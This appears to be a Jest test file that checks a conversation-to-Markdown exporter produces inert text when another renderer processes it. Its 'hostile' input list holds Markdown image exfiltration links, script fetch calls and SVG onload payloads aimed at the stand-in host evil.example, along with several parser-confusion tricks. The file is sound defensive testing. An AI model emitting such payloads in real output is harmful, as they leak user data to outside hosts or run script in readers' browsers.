import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { conversationMarkdown } from '../../src/agent/conversation-export.ts';
import type { ConversationView, MessageView } from '../../src/agent/conversation-view.ts';
import { hasPython, PYTHON_INSTALL_MS, pythonWith } from '../support/python.ts';

// An exported conversation, rendered by somebody else's Markdown: what was said stays text, and nothing is loaded by looking at it.

const suite = hasPython('the check of exported Markdown') ? describe : describe.skip;

const hostile = [
  '![x](https://evil.example/?q=canary)',
  '![x][1]\n\n[1]: https://evil.example/canary "t"',
  '<img src=https://evil.example/canary>',
  '<script>fetch("https://evil.example")</script>',
  '<svg onload=alert(1)>',
  '&lt;img src=x&gt; &#60;img src=x&#62;',
  '[click](https://evil.example)',
  '<https://evil.example>',
  'https://evil.example/?canary www.evil.example evil.example a@evil.example //evil.example',
  'HTTPS://evil.example ftp://evil.example mailto:a@evil.example',
  '> quote\n\nand out of it ![x](https://evil.example)',
  '```\nfence\n```\n![x](https://evil.example)',
  '    indented\n\t<img src=x>',
  '| a | b |\n|---|---|\n| ![x](y) | <b> |',
  '# heading\n===\n---\n***\n- list\n1. one\n2) two\n+ plus',
  '~~struck~~ **bold** __bold__ *it* _it_ `code` $x$ \\![x](y)',
  'line\r\n\r\n![x](https://evil.example)\u2028<img src=x>\u0085![x](z)',
  'a\u202e![x](y)\u0000<img src=x>',
  '\\',
  'ends with a backslash\\',
  ':smile: {{x}} <!-- <img src=x> --> ]]> <?php <![CDATA[ x',
  '[^1]\n\n[^1]: note ![x](y)',
  '- [ ] task\n* * *\n_ _ _',
];

const base: ConversationView = {
  conversation_id: 'c_01ARZ3NDEKTSV4RRFFQ69G5FAV',
  title: 'Title',
  created_at: '2026-11-21T09:00:00.000Z',
  updated_at: '2026-11-21T09:00:00.000Z',
  expires_at: '2026-12-21T09:00:00.000Z',
  turn_count: 1,
  dropped_turns: 0,
  turns: [],
};

function saying(...messages: readonly MessageView[]): string {
  const turns = [{ turn: 't_1', status: 'completed', asked_at: base.created_at, messages }] as const;
  return conversationMarkdown({ ...base, turns }, base.created_at);
}

/** One text in every place that somebody else's text can stand in. */
const everywhere = (text: string): string =>
  conversationMarkdown(
    {
      ...base,
      title: text,
      turns: [
        {
          turn: 't_1',
          status: 'interrupted',
          asked_at: base.created_at,
          messages: [
            { role: 'user', text },
            { role: 'assistant', text, tool_calls: [{ id: 'c', tool: text, arguments: { [text]: [text] } }] },
            { role: 'tool', call_id: 'c', tool: text, text, is_error: true },
          ],
        },
      ],
    },
    base.created_at,
  );

const ALLOWED = new Set(['h1', 'h2', 'p', 'strong', 'blockquote', 'br', 'pre', 'code']);

/** Elements in rendered HTML, with what they carry. */
function elements(html: string): readonly (readonly [string, string])[] {
  return [...html.matchAll(/<\/?([a-zA-Z!?][^\s>/]*)([^>]*)>/g)].map(([, name = '', rest = '']) => [name, rest.trim()]);
}

function textOf(html: string): string {
  const plain = html.replace(/<[^>]*>/g, '');
  const entities: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' };
  return plain.replace(/&(amp|lt|gt|quot);/g, (_all, name: string) => entities[name] ?? '');
}

const blank = (text: string): string => text.replace(/\s+/g, '');
const shown = (text: string): string => blank(text.replace(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, ''));

suite('an exported conversation', () => {
  let python = '';
  beforeAll(async () => {
    python = await pythonWith('markdown');
  }, PYTHON_INSTALL_MS);

  async function render(texts: readonly string[]): Promise<readonly string[]> {
    const child = spawn(python, ['test/peers/render_markdown.py'], { stdio: ['pipe', 'pipe', 'inherit'] });
    const pieces: Buffer[] = [];
    child.stdout.on('data', (piece: Buffer) => pieces.push(piece));
    child.stdin.end(JSON.stringify(texts));
    const [code] = (await once(child, 'close')) as [number];
    expect(code).toBe(0);
    return JSON.parse(Buffer.concat(pieces).toString('utf8')) as string[];
  }

  function expectHarmless(html: string): void {
    const found = elements(html);
    expect(found.filter(([name]) => !ALLOWED.has(name))).toEqual([]);
    // Nothing has an attribute but the fences' language.
    expect(found.filter(([, rest]) => rest !== '' && rest !== '/' && rest !== 'class="language-json"')).toEqual([]);
  }

  it('is judged by a renderer that does make links and pictures of such texts', async () => {
    const html = (await render(hostile)).join('\n');
    for (const element of ['<img', '<a ', '<script', '<table', '<ul', '<ol', '<h1', '<pre', '<s>']) {
      expect(html).toContain(element);
    }
  });

  it('renders to text alone, wherever a hostile text stands', async () => {
    for (const html of await render(hostile.map(everywhere))) expectHarmless(html);
  });

  it('says what was said, to the letter', async () => {
    const rendered = await render(hostile.map((text) => saying({ role: 'user', text })));
    for (const [index, html] of rendered.entries()) {
      const [, said = ''] = /<blockquote>([\s\S]*)<\/blockquote>/.exec(html) ?? [];
      expect(blank(textOf(said))).toBe(shown(hostile[index] ?? ''));
    }
  });

  it('does so for any text there is', async () => {
    const marks = fc.constantFrom(
      ...'![]()<>`*_#-+.|~&:/\\"\'=@ \n\t\rwx1{}$^%',
      'www.',
      'https://',
      '\u2028',
      '&#33;',
    );
    const texts = fc.sample(fc.array(fc.oneof(marks, fc.string({ unit: 'binary', maxLength: 3 })), { maxLength: 30 }), {
      numRuns: 400,
      seed: 7,
    });
    const joined = texts.map((pieces) => Buffer.from(pieces.join('')).toString('utf8'));
    for (const html of await render(joined.map(everywhere))) expectHarmless(html);
    const rendered = await render(joined.map((text) => saying({ role: 'user', text })));
    for (const [index, html] of rendered.entries()) {
      const [, said = ''] = /<blockquote>([\s\S]*)<\/blockquote>/.exec(html) ?? [];
      expect(blank(textOf(said))).toBe(shown(joined[index] ?? ''));
    }
  });
});
